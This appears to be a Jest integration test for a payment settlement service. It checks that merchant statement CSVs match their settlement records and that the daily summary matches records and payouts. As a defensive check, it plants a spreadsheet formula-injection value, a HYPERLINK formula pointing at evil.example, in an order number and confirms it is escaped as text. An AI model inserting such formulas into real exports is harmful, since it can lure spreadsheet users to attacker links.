/**
 * Merchant statements and the daily settlement summary on the real Postgres (and the service
 * booted over HTTP on the real Kafka): records made by a real cycle close, each record's CSV
 * listing its items once by order number with totals equal to the record, an order number that is
 * a spreadsheet formula written as text, and the summary's figures equal to the records' and payouts'.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { INestApplication } from '@nestjs/common';
import { dlqTopicOf, Money, TOPIC, type ClearingItemClearedV1 } from '@app/contracts';
import { Ledger } from '@app/ledger';
import { ensureTopics } from '@app/messaging';
import type { DataSource } from 'typeorm';
import {
  itemCleared,
  CycleCloseService,
  listSettlementRecords,
  type SettlementRecordView,
  SettlementModule,
  dailySettlementSummary,
  findStatementRecord,
  merchantStatementCsv,
  statementItems,
} from '../../apps/settlement/src/index.js';
import { parseCsv } from '../support/csv-reader.js';
import { migrateAll, openDataSource, testKafka, useIsolatedDatabase } from '../support/infra.js';
import { startServiceApp } from '../support/http-app.js';
import { clearIntoSettleable } from '../support/settlement-payouts.js';
import { staffFetch } from '../support/identity.js';

// Every call of this file as staff with every staff role (access itself: access-control.int-spec.ts).
const fetch = staffFetch();

const CNY = (v: string) => Money.of(v, 'CNY');
const EVIL = '=HYPERLINK("http://evil.example/?x","click")';

describe('merchant statement and daily summary (real Postgres + Kafka)', () => {
  const kafka = testKafka();
  const admin = kafka.admin();
  const savedPrefix = process.env.KAFKA_TOPIC_PREFIX;
  const prefix = `${savedPrefix ?? ''}settlement-statement.`;
  let app: INestApplication;
  let base: string;
  let db: DataSource;
  const ledger = new Ledger();
  let records: SettlementRecordView[];
  const byMerchant = (m: string) => records.find((r) => r.merchantId === m)!;
  const itemsOf = new Map<string, ClearingItemClearedV1[]>();

  const withOrderNo = (e: ClearingItemClearedV1, orderNo: string): ClearingItemClearedV1 => ({
    ...e,
    orderNo,
  });

  beforeAll(async () => {
    await useIsolatedDatabase('settlement_statement');
    await admin.connect();
    const topic = `${prefix}${TOPIC.clearingItemClearedV1}`;
    await ensureTopics(admin, [topic, dlqTopicOf(topic)], 3);
    await migrateAll();
    db = await openDataSource('settlement');
    await db.query(
      `INSERT INTO settlement.merchant_terms (merchant_id, currency, cycle, minimum_payout, reserve) VALUES
         ('M_C', 'CNY', '{"kind": "T_PLUS", "days": 1}', 100.00, NULL),
         ('M_D', 'CNY', '{"kind": "T_PLUS", "days": 1}', 0, '{"rate": "0.10", "holdDays": 7}')`,
    );
    const items = [
      itemCleared('M_A', '2026-09-25', '100.00'),
      itemCleared('M_A', '2026-09-24', '50.50'),
      withOrderNo(itemCleared('M_A', '2026-09-25', '10.00'), EVIL),
      itemCleared('M_B', '2026-09-25', '20.00'),
      itemCleared('M_B', '2026-09-25', '-5.00'),
      itemCleared('M_C', '2026-09-25', '60.00'),
      itemCleared('M_D', '2026-09-25', '200.00'),
    ];
    for (const e of items) itemsOf.set(e.merchantId, [...(itemsOf.get(e.merchantId) ?? []), e]);
    expect(await clearIntoSettleable(db, ledger, items)).toBe(items.length);
    // Thursday 09-24 closes on Friday 09-25, Friday 09-25 on Monday 09-28 (T+1 on business days).
    await new CycleCloseService(db, ledger).close('2026-09-25', { by: 'ops:alice' });
    await new CycleCloseService(db, ledger).close('2026-09-28', { by: 'ops:alice' });
    records = await listSettlementRecords(db, {});

    // The payout outcome of two records, as the payout flow would have left it: A paid, B failed.
    for (const [merchant, recordStatus, payoutStatus] of [
      ['M_A', 'PAID', 'PAID'],
      ['M_B', 'PAYOUT_FAILED', 'FAILED'],
    ] as const) {
      const r = records.find((x) => x.merchantId === merchant && x.closesOn === '2026-09-28')!;
      await db.query(
        `INSERT INTO settlement.payout_request (record_id, attempt_id, merchant_id, currency, amount, status, requested_by)
         VALUES ($1, $2, $3, 'CNY', $4, 'REQUESTED', 'finance:li')`,
        [r.id, `pay-${r.id}`, merchant, r.amount],
      );
      await db.query(
        `INSERT INTO settlement.payout (record_id, merchant_id, currency, amount, account, account_no, status, state)
         VALUES ($1, $2, 'CNY', $3, '{}', '6214830100998877', $4, '{}')`,
        [r.id, merchant, r.amount, payoutStatus],
      );
      await db.query(`UPDATE settlement.settlement_record SET status = $2 WHERE id = $1`, [
        r.id,
        recordStatus,
      ]);
    }
    records = await listSettlementRecords(db, {});

    process.env.KAFKA_TOPIC_PREFIX = prefix;
    ({ app: app, base: base } = await startServiceApp(SettlementModule, ['error', 'warn']));
  }, 90_000);

  afterAll(async () => {
    await app?.close();
    await db?.destroy();
    await admin.disconnect();
    if (savedPrefix === undefined) delete process.env.KAFKA_TOPIC_PREFIX;
    else process.env.KAFKA_TOPIC_PREFIX = savedPrefix;
  });

  const statementOf = async (id: string): Promise<string> => {
    const record = (await findStatementRecord(db, id))!;
    let csv = '';
    for await (const line of merchantStatementCsv(statementItems(db, record), record)) csv += line;
    return csv;
  };

  it('closed the records the statements are about', () => {
    expect(
      records.map((r) => [
        r.merchantId,
        r.closesOn,
        r.itemsCount,
        r.itemsNet,
        r.reserveHeld,
        r.amount,
        r.carryForward,
        r.status,
      ]),
    ).toEqual([
      ['M_A', '2026-09-25', 1, '50.50', '0.00', '50.50', '0.00', 'PENDING_APPROVAL'],
      ['M_A', '2026-09-28', 2, '110.00', '0.00', '110.00', '0.00', 'PAID'],
      ['M_B', '2026-09-28', 2, '15.00', '0.00', '15.00', '0.00', 'PAYOUT_FAILED'],
      ['M_C', '2026-09-28', 1, '60.00', '0.00', '0.00', '60.00', 'PENDING_APPROVAL'],
      ['M_D', '2026-09-28', 1, '200.00', '20.00', '180.00', '0.00', 'PENDING_APPROVAL'],
    ]);
  });

  it('lists every item of a record once, escapes a formula, and its totals equal the record', async () => {
    for (const record of records) {
      const csv = await statementOf(record.id);
      expect(csv.startsWith('\uFEFFline,business_date,type,order_no,refund_no,')).toBe(true);
      const rows = parseCsv(csv.slice(1));
      const itemRows = rows.filter((r) => r[0] === 'ITEM');
      const [stored] = await db.query<{ ids: string[] }[]>(
        `SELECT array_agg(transaction_event_id ORDER BY transaction_event_id) AS ids
         FROM settlement.cleared_item WHERE settlement_record_id = $1`,
        [record.id],
      );
      const listed = itemRows.map((r) => r[7]!);
      expect([...listed].sort()).toEqual([...stored!.ids].sort());
      expect(new Set(listed).size).toBe(record.itemsCount);
      const totals = Object.fromEntries(
        rows
          .filter((r) => r[0] !== 'ITEM' && r[0] !== 'line')
          .map((r): [string, string[]] => [r[0]!, r.slice(11)]),
      );
      const sum = (col: number) => itemRows.reduce((s, r) => s.plus(CNY(r[col]!)), CNY('0')).toString();
      expect(totals).toEqual({
        ITEMS_TOTAL: [sum(11), sum(12), record.itemsNet],
        CARRIED_IN: ['', '', record.carriedIn],
        RESERVE_HELD: ['', '', record.reserveHeld],
        RESERVE_RELEASED: ['', '', record.reserveReleased],
        CARRY_FORWARD: ['', '', record.carryForward],
        PAYABLE_AMOUNT: ['', '', record.amount],
      });
      expect(sum(13)).toBe(record.itemsNet);
      // Every item stored by this version carries its order number.
      expect(itemRows.every((r) => r[3] !== '')).toBe(true);
    }
  });

  it('writes the record of M_A on 09-28 exactly, the formula as text, by business date then order number', async () => {
    const record = records.find((r) => r.merchantId === 'M_A' && r.closesOn === '2026-09-28')!;
    const [normal, evil] = [itemsOf.get('M_A')![0]!, itemsOf.get('M_A')![2]!];
    // By transaction id the normal item would come first; by order number '=' sorts before 'O'.
    expect(normal.transactionEventId < evil.transactionEventId).toBe(true);
    const response = await fetch(`${base}/settlement-records/${record.id}/statement.csv`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe(
      `attachment; filename="settlement-${record.id}.csv"`,
    );
    const body = Buffer.from(await response.arrayBuffer());
    expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(body.toString('utf8').split('\r\n')).toEqual([
      '\uFEFFline,business_date,type,order_no,refund_no,coupon_merchant,coupon_platform,transaction_event_id,event_id,channel,currency,gross,fee,net',
      `ITEM,2026-09-25,PAYMENT,"'=HYPERLINK(""http://evil.example/?x"",""click"")",,0.00,0.00,${evil.transactionEventId},${evil.eventId},WECHAT,CNY,11.00,1.00,10.00`,
      `ITEM,2026-09-25,PAYMENT,${normal.orderNo},,0.00,0.00,${normal.transactionEventId},${normal.eventId},WECHAT,CNY,101.00,1.00,100.00`,
      'ITEMS_TOTAL,,,,,,,,,,CNY,112.00,2.00,110.00',
      'CARRIED_IN,,,,,,,,,,CNY,,,0.00',
      'RESERVE_HELD,,,,,,,,,,CNY,,,0.00',
      'RESERVE_RELEASED,,,,,,,,,,CNY,,,0.00',
      'CARRY_FORWARD,,,,,,,,,,CNY,,,0.00',
      'PAYABLE_AMOUNT,,,,,,,,,,CNY,,,110.00',
      '',
    ]);
    expect(body.toString('utf8')).toBe(await statementOf(record.id));
  });

  it('reads a record’s items a page at a time without skipping or repeating one', async () => {
    const recordA = records.find((r) => r.merchantId === 'M_A' && r.closesOn === '2026-09-28')!;
    // M_B: a payment and a refund; M_A: order numbers in the opposite order to transaction ids.
    for (const id of [byMerchant('M_B').id, recordA.id]) {
      const record = (await findStatementRecord(db, id))!;
      const paged: string[] = [];
      for await (const item of statementItems(db, record, 1)) paged.push(item.transactionEventId);
      const whole: string[] = [];
      for await (const item of statementItems(db, record)) whole.push(item.transactionEventId);
      expect(paged).toEqual(whole);
      expect(paged).toHaveLength(2);
    }
  });

  it('writes a refund’s refund number and negative figures as numbers, its coupon cells empty', async () => {
    const csv = await statementOf(byMerchant('M_B').id);
    const refund = itemsOf.get('M_B')![1]!;
    expect(csv).toContain(
      `ITEM,2026-09-25,REFUND,${refund.orderNo},${refund.refundNo!},,,${refund.transactionEventId},${refund.eventId},WECHAT,CNY,-5.00,0.00,-5.00\r\n`,
    );
    expect(csv).toContain('ITEMS_TOTAL,,,,,,,,,,CNY,16.00,1.00,15.00\r\n');
  });

  it('answers 404 for an unknown record and 400 for a bad id', async () => {
    const missing = await fetch(`${base}/settlement-records/999999/statement.csv`);
    expect(missing.status).toBe(404);
    expect(await missing.json()).toMatchObject({
      error: 'SETTLEMENT.NOT_FOUND',
      message: 'no settlement record 999999',
    });
    expect((await fetch(`${base}/settlement-records/x/statement.csv`)).status).toBe(400);
  });

  it('refuses, before any byte of CSV, a record that is not the sum of its items (500, nothing streamed)', async () => {
    const record = records.find((r) => r.merchantId === 'M_A' && r.closesOn === '2026-09-28')!;
    // Corrupt the record behind the application's back (triggers off for this session only), as
    // a bad migration or a manual fix might: it claims one item more than it has. Put it back
    // afterwards for the other tests.
    const corrupt = async (delta: number) =>
      db.transaction(async (tx) => {
        await tx.query(`SET LOCAL session_replication_role = replica`);
        await tx.query(
          'UPDATE settlement.settlement_record SET items_count = items_count + $2 WHERE id = $1',
          [record.id, delta],
        );
      });
    await corrupt(1);
    try {
      const response = await fetch(`${base}/settlement-records/${record.id}/statement.csv`);
      expect(response.status).toBe(500);
      expect(response.headers.get('content-type')).toMatch(/application\/json/);
      expect(await response.json()).toEqual({
        statusCode: 500,
        error: 'SETTLEMENT.STATEMENT_INCONSISTENT',
        message:
          `settlement record ${record.id}: its ${record.itemsCount} item(s) net ${record.itemsNet}, ` +
          `the record says ${record.itemsCount + 1} item(s) net ${record.itemsNet}`,
      });
    } finally {
      await corrupt(-1);
    }
    const restored = await fetch(`${base}/settlement-records/${record.id}/statement.csv`);
    expect(restored.status).toBe(200);
  });

  it('summarises a close date: figures equal the records’ and the payouts’', async () => {
    const expected = {
      date: '2026-09-28',
      records: [
        {
          status: 'PAID',
          currency: 'CNY',
          records: 1,
          amount: '110.00',
          carryForward: '0.00',
          reserveHeld: '0.00',
          reserveReleased: '0.00',
        },
        {
          status: 'PAYOUT_FAILED',
          currency: 'CNY',
          records: 1,
          amount: '15.00',
          carryForward: '0.00',
          reserveHeld: '0.00',
          reserveReleased: '0.00',
        },
        {
          status: 'PENDING_APPROVAL',
          currency: 'CNY',
          records: 2,
          amount: '180.00',
          carryForward: '60.00',
          reserveHeld: '20.00',
          reserveReleased: '0.00',
        },
      ],
      payouts: [
        { status: 'FAILED', currency: 'CNY', payouts: 1, amount: '15.00' },
        { status: 'PAID', currency: 'CNY', payouts: 1, amount: '110.00' },
      ],
      paid: [{ currency: 'CNY', payouts: 1, amount: '110.00' }],
      failed: [{ currency: 'CNY', payouts: 1, amount: '15.00' }],
      heldBack: [],
    };
    const summary = await dailySettlementSummary(db, '2026-09-28');
    expect(summary).toEqual(expected);
    // Cross-check against the records themselves.
    const closed = records.filter((r) => r.closesOn === '2026-09-28');
    const total = (pick: (r: SettlementRecordView) => string) =>
      closed.reduce((s, r) => s.plus(CNY(pick(r))), CNY('0')).toString();
    const fromSummary = (key: 'amount' | 'carryForward' | 'reserveHeld') =>
      summary.records.reduce((s, g) => s.plus(CNY(g[key])), CNY('0')).toString();
    expect([fromSummary('amount'), fromSummary('carryForward'), fromSummary('reserveHeld')]).toEqual([
      total((r) => r.amount),
      total((r) => r.carryForward),
      total((r) => r.reserveHeld),
    ]);
    expect(summary.records.reduce((n, g) => n + g.records, 0)).toBe(closed.length);

    const response = await fetch(`${base}/settlement-summary?date=2026-09-28`);
    expect(response.status).toBe(200);
    expect(await response.json()).toEqual(expected);
    expect((await fetch(`${base}/settlement-summary?date=2026-02-30`)).status).toBe(400);
    expect(await dailySettlementSummary(db, '2026-09-29')).toEqual({
      date: '2026-09-29',
      records: [],
      payouts: [],
      paid: [],
      failed: [],
      heldBack: [],
    });
  });
});
